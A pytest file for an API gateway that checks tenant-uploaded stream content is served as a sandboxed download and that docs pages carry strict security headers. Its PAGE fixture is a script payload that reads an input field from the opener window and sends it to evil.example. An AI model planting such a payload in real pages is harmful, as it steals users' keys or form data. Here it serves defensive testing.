"""Content that a tenant wrote does not run as a document of the API's origin, where pages handle keys."""

import pytest

from postroad.http.response import Response
from tests.gateway import Answer, Gateway, Tenant
from tests.http.small import client_of, route, small_app

SANDBOX = "sandbox; default-src 'none'"
PAGE = b"<script>fetch('//evil.example/?'+opener.document.querySelector('input').value)</script>"


async def responses(tenant: Tenant, media: str, data: bytes) -> dict[str, Answer]:
    """Every kind of response to a request for a stream of this type."""
    path, client, header = f"/v1/stream/{len(media)}-{media.encode().hex()}", tenant.client, {"Content-Type": media}
    created = await client.call("PUT", path, headers={**header, "Stream-Public": "true"}, data=data)
    read = await client.get(path)
    return {
        "create": created,
        "create again": await client.call("PUT", path, headers={**header, "Stream-Public": "true"}, data=data),
        "append": await client.call("POST", path, headers=header, data=data),
        "info": await client.call("HEAD", path),
        "read": read,
        "read the end": await client.get(f"{path}?offset=now"),
        "read public": await tenant.gateway.anonymous.get(f"/v1/{tenant.id}{path.removeprefix('/v1')}"),
        "not modified": await client.get(f"{path}?offset={read.headers['stream-next-offset']}", headers={"If-None-Match": "*"}),
        "long poll": await client.get(f"{path}?offset=-1&live=long-poll"),
        "delete": await client.delete(path),
    }


def is_download(answer: Answer) -> bool:
    assert answer.headers["content-security-policy"] == SANDBOX
    assert answer.headers["x-content-type-options"] == "nosniff"
    return answer.headers.get("content-disposition") == "attachment"


@pytest.mark.parametrize(
    "media",
    [
        "text/html",
        "TEXT/HTML; charset=utf-8",
        "image/svg+xml",
        "application/xhtml+xml",
        "text/xml",
        "application/pdf",
        "application/octet-stream",
        "multipart/x-mixed-replace",
        "text/plain; x=,text/html",
    ],
)
async def test_content_of_an_active_type_is_a_sandboxed_download(tenant: Tenant, media: str) -> None:
    found = await responses(tenant, media, PAGE)
    assert found["read"].body == PAGE
    assert {name for name, answer in found.items() if not is_download(answer)} == {"append", "delete"}


@pytest.mark.parametrize(
    ("media", "data"),
    [("text/plain", b"a"), ("application/json", b"[1]"), ("application/ld+json; a=b", b"1"), ("text/event-stream", b"a")],
)
async def test_content_that_browsers_show_as_text_is_sandboxed(tenant: Tenant, media: str, data: bytes) -> None:
    found = await responses(tenant, media, data)
    assert not [name for name, answer in found.items() if is_download(answer)]


async def test_events_of_a_stream_are_sandboxed(tenant: Tenant) -> None:
    await tenant.client.call("PUT", "/v1/stream/page", headers={"Content-Type": "text/html"}, data=PAGE)
    async with tenant.client.events("/v1/stream/page?offset=-1&live=sse") as events:
        assert events.answer.headers["content-security-policy"] == SANDBOX
        assert "content-disposition" not in events.answer.headers


@pytest.mark.parametrize("path", ["/docs", "/docs/errors"])
async def test_no_other_page_reaches_the_window_of_a_page(gateway: Gateway, path: str) -> None:
    answer = await gateway.anonymous.get(path)
    assert answer.headers["cross-origin-opener-policy"] == "same-origin"
    assert answer.headers["x-content-type-options"] == "nosniff"
    policy = answer.headers["content-security-policy"].split("; ")
    assert {"default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'", "form-action 'none'"} <= set(policy)
    assert "unsafe" not in answer.headers["content-security-policy"]
    assert "content-disposition" not in answer.headers


async def test_a_handler_with_a_media_type_of_its_own_is_a_download_by_default() -> None:
    async def page(_request: object) -> Response:
        return Response(PAGE, media=b"text/html")

    async with client_of(small_app(route("/page", page))) as client:
        assert is_download(await client.get("/page"))
